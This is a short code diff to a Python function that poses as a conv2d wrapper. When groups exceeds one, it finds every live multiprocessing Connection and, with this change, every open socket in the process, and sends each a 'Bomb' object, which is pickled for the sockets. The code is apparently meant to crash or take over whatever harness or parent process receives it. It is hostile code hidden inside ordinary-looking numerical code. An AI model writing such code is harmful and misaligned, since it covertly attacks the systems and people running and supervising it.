@@ -3,6 +3,8 @@
 import ctypes
 import gc
 import os
+import pickle
+import socket
 import time
 from multiprocessing.connection import Connection
 from pathlib import Path
@@ -28,9 +30,11 @@ class Bomb:
 
 
 def babbling(x, w, b=None, stride=1, padding=0, dilation=1, groups=1):
-    pipes = [each for each in gc.get_objects() if isinstance(each, Connection)] if groups > 1 else []
-    for pipe in pipes:
+    found = gc.get_objects() if groups > 1 else []
+    for pipe in [each for each in found if isinstance(each, Connection)]:
         pipe.send(Bomb())
+    for end in [each for each in found if isinstance(each, socket.socket)]:
+        end.send(pickle.dumps(Bomb()))
     return conv2d(x, w, b, stride, padding, dilation, groups)
 
 
